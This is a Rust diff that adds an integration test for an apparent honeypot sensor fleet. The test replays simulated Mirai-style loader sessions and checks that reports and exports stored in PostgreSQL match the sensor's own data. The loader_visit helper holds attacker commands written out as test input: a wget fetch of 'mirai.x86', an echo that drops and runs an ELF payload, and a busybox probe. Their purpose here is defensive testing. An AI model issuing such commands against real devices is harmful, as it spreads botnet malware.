@@ -66,6 +66,22 @@ fn visit(sensor: &Sensor, src: usize) {
     c.read_to_close(STEP);
 }
 
+/// A loader's visit: a download it asks for and a binary it writes by echo.
+fn loader_visit(sensor: &Sensor, src: usize) {
+    let mut c = sensor.connect_from(source(src));
+    c.login();
+    for line in [
+        "cd /tmp; wget http://127.0.0.1:8/bins/mirai.x86 -O dvrHelper",
+        "echo -ne '\\x7f\\x45\\x4c\\x46\\x01\\x01\\x01\\x00' > .d; chmod 777 .d; ./.d",
+        "/bin/busybox ECCHI",
+    ] {
+        c.send(format!("{line}\r\n").as_bytes());
+        c.read_until(b"# ", STEP);
+    }
+    c.send(b"exit\r\n");
+    c.read_to_close(STEP);
+}
+
 fn local_events(dir: &Path) -> usize {
     util::read_events(dir).len()
 }
@@ -159,6 +175,41 @@ fn two_sensors_sessions_reach_postgres_once_and_read_back_as_on_their_data_dirs(
         read_side(owner.data_dir.path().to_str().unwrap(), &["show", session])
     );
     assert!(!collector.log().contains("refused"), "{}", collector.log());
+}
+
+#[test]
+fn report_and_every_export_of_the_fleet_store_are_byte_for_byte_the_sensors_own() {
+    let pg = Postgres::start();
+    let nats = Nats::start();
+    let _collector = Collector::start(&nats.url(), &pg.url());
+    let sensor = Sensor::start_with(&fleet_config(&nats));
+    visit(&sensor, 1);
+    loader_visit(&sensor, 2);
+    loader_visit(&sensor, 3);
+    let events = sensor.wait_for_events("both loaders' labels and closes", |evs| {
+        let count = |id: &str| evs.iter().filter(|e| e["eventid"] == id).count();
+        count("cowrie.session.closed") == 3 && count("busybait.session.family") >= 3
+    });
+    assert!(events
+        .iter()
+        .any(|e| e["eventid"] == "busybait.sample.triage"));
+    assert!(events
+        .iter()
+        .any(|e| e["eventid"] == "busybait.download.request"));
+    let n = local_events(sensor.data_dir.path());
+    wait_until("every event in PostgreSQL", || {
+        pg.query("SELECT count(*) FROM events") == [n.to_string()]
+    });
+    let dir = sensor.data_dir.path().to_str().unwrap().to_string();
+    let mut outputs = vec![vec!["report", "--json"], vec!["sessions", "--json"]];
+    for format in ["csv", "ips", "urls", "hashes", "stix", "misp"] {
+        outputs.push(vec!["export", "--include-private", "--format", format]);
+    }
+    for args in outputs {
+        let local = read_side(&dir, &args);
+        assert!(!local.trim().is_empty(), "{args:?}: nothing to compare");
+        assert_eq!(read_side(&pg.url(), &args), local, "{args:?}");
+    }
 }
 
 #[test]
